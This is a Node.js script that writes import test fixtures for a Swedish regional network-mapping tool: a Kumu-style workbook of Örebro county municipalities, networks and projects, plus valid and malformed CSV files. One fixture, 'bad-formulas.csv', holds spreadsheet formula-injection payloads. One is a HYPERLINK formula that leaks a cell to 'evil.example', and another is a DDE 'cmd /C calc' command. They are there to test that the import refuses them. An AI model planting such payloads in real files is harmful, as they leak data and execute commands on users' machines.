// @ts-check
// Writes the import fixtures in tests/fixtures/import/: a realistic Kumu-style
// workbook (Elements + Connections), good CSV files (UTF-8, and Swedish Excel's
// semicolon CSV in Windows-1252) and the bad files the import must refuse.
//
//   node scripts/make-import-fixtures.js
//
// The output is committed; rerun after changing this script. The themes used are
// the seeded ones (supabase/seed-data/themes.yaml), by their Swedish labels.
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import writeXlsxFile from 'write-excel-file/node';

const dir = fileURLToPath(new URL('../tests/fixtures/import/', import.meta.url));

/** @param {string} value */
const date = (value) => ({
  value: new Date(`${value}T00:00:00Z`),
  type: Date,
  format: 'yyyy-mm-dd'
});
/** @param {string} value */
const bold = (value) => ({ value, fontWeight: 'bold' });

// Kumu's Elements sheet: Label, Type, Description, Tags (| separated), plus our fields
// and Kumu's own "Image" (not used by Regionkartan: imported with a warning).
const elementsHeader = [
  'Label',
  'Type',
  'Description',
  'Tags',
  'Kommunkod',
  'Status',
  'Startdatum',
  'Slutdatum',
  'URL',
  'Image'
];
/** @type {(string | number | null | ReturnType<typeof date>)[][]} */
// prettier-ignore
const elements = [
  ['Örebro', 'Kommun', 'Länets största kommun.', 'Statistik och analys', 1880, 'Aktiv', null, null, null, null],
  ['Karlskoga', 'Kommun', '', '', 1883, '', null, null, null, null],
  ['Askersund', 'Kommun', '', 'Forskning och ULF | Systematiskt kvalitetsarbete (SKA)', 1882, '', null, null, null, null],
  ['Degerfors', 'Kommun', '', '', 1862, '', null, null, null, null],
  ['Nora', 'Kommun', '', '', 1884, '', null, null, null, null],
  ['Lekeberg', 'Kommun', '', '', 1814, '', null, null, null, null],
  ['Region Örebro län', 'Organisation', 'Regional utveckling, området Utbildning och arbetsmarknad.', 'Styrning och ledning', null, 'Aktiv', null, null, 'https://www.regionorebrolan.se', null],
  ['Örebro universitet', 'Organisation', '', 'Forskning och ULF', 1880, 'Aktiv', null, null, 'https://www.oru.se', null],
  ['RUC', 'organisation', 'Regionalt utvecklingscentrum vid universitetet.', 'Forskning och ULF | Styrning och ledning', 1880, 'Aktiv', null, null, null, null],
  ['GySam', 'Nätverk', 'Gymnasiesamverkan: rektorer för gymnasieskolan, varje månad.', 'Gymnasiesamverkan', null, 'Aktiv', null, null, null, 'https://example.org/gysam.png'],
  ['IM-nätverket', 'Nätverk', 'Stödnätverk till GySam för introduktionsprogrammen.', 'Gymnasiesamverkan', null, 'Aktiv', null, null, null, null],
  ['SYV-nätverk', 'nätverk', 'Studie- och yrkesvägledare, leds av Karlskoga.', 'Studie- och yrkesvägledning', null, 'Aktiv', null, null, null, null],
  ['REKO', 'Network', 'Regionalt forum för vuxnas lärande, cirka 22 personer.', 'Vuxenutbildning', null, 'active', null, null, null, null],
  ['TABB – Tillsammans för alla barns bästa', 'Projekt', 'Skola, socialtjänst och hälso- och sjukvård tillsammans.', 'Samverkan skola–socialtjänst–hälso- och sjukvård | Psykisk hälsa och skolavhopp', null, 'Aktiv', date('2019-09-01'), date('2023-06-30'), null, null],
  ['Juridiskt stöd för små kommuner', 'Resurs', 'Ett verksamhetsnära juridiskt stöd saknas, särskilt för de mindre kommunerna.', 'Juridik', null, 'Planerad', null, null, null, null],
  ['VuxWebb', 'resource', 'Gemensam webb för vuxenutbildningen.', 'Vuxenutbildning | Digitalisering', null, 'Aktiv', null, null, 'www.vuxwebb.se', null],
  ['Vux-dagen', 'Händelse', 'Inspirationsdag för 300 deltagare.', 'Vuxenutbildning', 1880, 'Avslutad', date('2022-03-10'), date('2022-03-10'), null, null]
];

// Kumu's Connections sheet: From, To, Type, Description, plus Strength (Kumu) → magnitude.
const connectionsHeader = ['From', 'To', 'Type', 'Description', 'Strength', 'Year'];
// prettier-ignore
const connections = [
  ['Karlskoga', 'SYV-nätverk', 'Leder', 'Karlskoga leder SYV-nätverket.', null, null],
  ['Karlskoga', 'GySam', 'Är värd för', 'Gemensam IKE-administration.', null, null],
  ['Örebro', 'GySam', 'Medlem i', '', null, null],
  ['Karlskoga', 'GySam', 'medlem i', '', null, null],
  ['Askersund', 'GySam', 'member_of', '', null, null],
  ['Lekeberg', 'GySam', 'Member of', '', null, null],
  ['IM-nätverket', 'GySam', 'Stödjer', '', null, null],
  ['Askersund', 'TABB – Tillsammans för alla barns bästa', 'Deltar i', 'Familjeträff.', null, null],
  ['Degerfors', 'TABB – Tillsammans för alla barns bästa', 'Deltar i', 'Kraftsamling för psykisk hälsa.', null, null],
  ['Örebro', 'TABB – Tillsammans för alla barns bästa', 'Deltar i', 'Västra Engelbrektskolan.', null, null],
  ['Nora', 'TABB – Tillsammans för alla barns bästa', 'Deltar i', 'Från 2021.', null, 2021],
  ['Örebro', 'REKO', 'Medlem i', '', null, null],
  ['Karlskoga', 'REKO', 'Medlem i', '', null, null],
  ['Örebro', 'SYV-nätverk', 'Medlem i', '', null, null],
  ['Askersund', 'SYV-nätverk', 'Medlem i', '', null, null],
  ['RUC', 'Örebro universitet', 'Del av', '', null, null],
  ['Region Örebro län', 'Örebro universitet', 'Partner till', '', null, null],
  ['REKO', 'Vux-dagen', 'Är värd för', '', null, null],
  ['REKO', 'VuxWebb', 'Är värd för', '', null, null],
  ['Lekeberg', 'Örebro', 'Flöde till', 'Många elever går gymnasiet i Örebro.', null, null],
  ['Juridiskt stöd för små kommuner', 'Nora', 'Stödjer', '', null, null]
];

/** @param {unknown[][]} rows */
const sheet = (rows) => rows.map((row) => row.map((cell) => (cell === null ? null : cell)));

// Windows-1252: Latin-1 plus a few characters in 0x80–0x9F (en dash, quotes …).
const CP1252_EXTRA = {
  '–': 0x96,
  '—': 0x97,
  '’': 0x92,
  '“': 0x93,
  '”': 0x94,
  '€': 0x80,
  '…': 0x85
};
/** @param {string} text */
function windows1252(text) {
  const bytes = [];
  for (const char of text) {
    const code = char.codePointAt(0) ?? 0;
    const extra = /** @type {Record<string, number>} */ (CP1252_EXTRA)[char];
    if (extra !== undefined) bytes.push(extra);
    else if (code <= 0xff && (code < 0x80 || code > 0x9f)) bytes.push(code);
    else throw new Error(`Not in Windows-1252: ${char}`);
  }
  return Buffer.from(bytes);
}

const crlf = (/** @type {string[]} */ lines) => lines.join('\r\n') + '\r\n';

const files = {
  // UTF-8, comma-separated, English headers, a quoted field with a comma and a line break.
  'noder-utf8.csv': crlf([
    'Name,Type,Description,Themes,Municipality,Status',
    'Hällefors,Municipality,,,1863,',
    'Ljusnarsberg,Kommun,,,1864,',
    '"Fritidshemsnätverket","Nätverk","Nätverk för fritidshem i Hällefors, Ljusnarsberg och Nora.\nTräffas varje termin.",Fritidshem,Hällefors,Aktiv',
    'Kvalitetsdialog i Bergslagen,Projekt,"Gemensam ""SKA""-modell",Systematiskt kvalitetsarbete (SKA),1863,Planerad'
  ]),
  // Relations between the nodes above, by name.
  'relationer-utf8.csv': crlf([
    'Från,Till,Typ,Anteckning',
    'Hällefors,Fritidshemsnätverket,Medlem i,',
    'Ljusnarsberg,Fritidshemsnätverket,Medlem i,',
    'Hällefors,Kvalitetsdialog i Bergslagen,Deltar i,Start hösten 2024'
  ])
};

// What Swedish Excel writes for "CSV (semikolonavgränsad)": Windows-1252, ; and decimal commas.
const excelSv = crlf([
  'Namn;Typ;Beskrivning;Teman;Kommunkod;Status;Longitud;Latitud',
  'Lindesberg;Kommun;;;1885;;;',
  'Laxå;Kommun;;;1860;;;',
  'Hälsofrämjande skola – Lindesberg;Resurs;Stöd för elevhälsa – ökad närvaro och trygghet;Hälsa, trygghet och framtidstro;1885;Aktiv;15,2245;59,5941',
  'Förskolenätverket Laxå–Lindesberg;Nätverk;Öppet för förskollärare i båda kommunerna;Förskola;1860;Vilande;;'
]);

const bad = {
  // An opening quote on row 3 that never closes.
  'bad-unclosed-quote.csv': crlf([
    'Namn,Typ,Beskrivning',
    'GySam,Nätverk,Gymnasiesamverkan',
    'REKO,Nätverk,"Vuxnas lärande',
    'SYV-nätverk,Nätverk,Vägledning'
  ]),
  // No Typ column at all.
  'bad-missing-columns.csv': crlf([
    'Namn;Beskrivning',
    'GySam;Gymnasiesamverkan',
    'REKO;Vuxnas lärande'
  ]),
  // Row 3: "Nätverket" is no kind; row 4: "Idrott" is no theme; row 5: "Pausad" no status.
  'bad-unknown-kind-theme.csv': crlf([
    'Namn;Typ;Teman;Status',
    'GySam;Nätverk;Gymnasiesamverkan;Aktiv',
    'REKO;Nätverket;Vuxenutbildning;Aktiv',
    'Idrottsnätverket;Nätverk;Idrott;Aktiv',
    'SYV-nätverk;Nätverk;Studie- och yrkesvägledning;Pausad'
  ]),
  // Relations: row 3 points at a node that is neither in the file nor on the map.
  'bad-relation-unknown-node.csv': crlf([
    'Från;Till;Typ',
    'Örebro;Lekeberg;Samverkar med',
    'Örebro;Finns inte-nätverket;Medlem i'
  ]),
  // Formula injection attempts in cells (rows 2–4); row 5 is harmless text.
  'bad-formulas.csv': crlf([
    'Namn;Typ;Beskrivning',
    '"=HYPERLINK(""http://evil.example/?x=""&A1;""Klicka"")";Resurs;',
    "Elevhälsa;Resurs;@SUM(1+1)*cmd|' /C calc'!A0",
    'Nätverk X;Nätverk;=1+2',
    'Nätverk Y;Nätverk;- punkt ett'
  ])
};

async function main() {
  await mkdir(dir, { recursive: true });
  await writeXlsxFile([
    {
      sheet: 'Elements',
      data: /** @type {any} */ ([elementsHeader.map(bold), ...sheet(elements)]),
      stickyRowsCount: 1
    },
    {
      sheet: 'Connections',
      data: /** @type {any} */ ([connectionsHeader.map(bold), ...sheet(connections)]),
      stickyRowsCount: 1
    }
  ]).toFile(join(dir, 'kumu-orebro.xlsx'));
  for (const [name, text] of Object.entries(files)) await writeFile(join(dir, name), text, 'utf8');
  await writeFile(join(dir, 'noder-excel-sv-1252.csv'), windows1252(excelSv));
  for (const [name, text] of Object.entries(bad)) await writeFile(join(dir, name), text, 'utf8');
  // Windows-1252 bytes in a file the user says is UTF-8.
  await writeFile(join(dir, 'bad-latin1-claimed-utf8.csv'), windows1252(excelSv));
  console.log(`Wrote fixtures to ${dir}`);
}

await main();
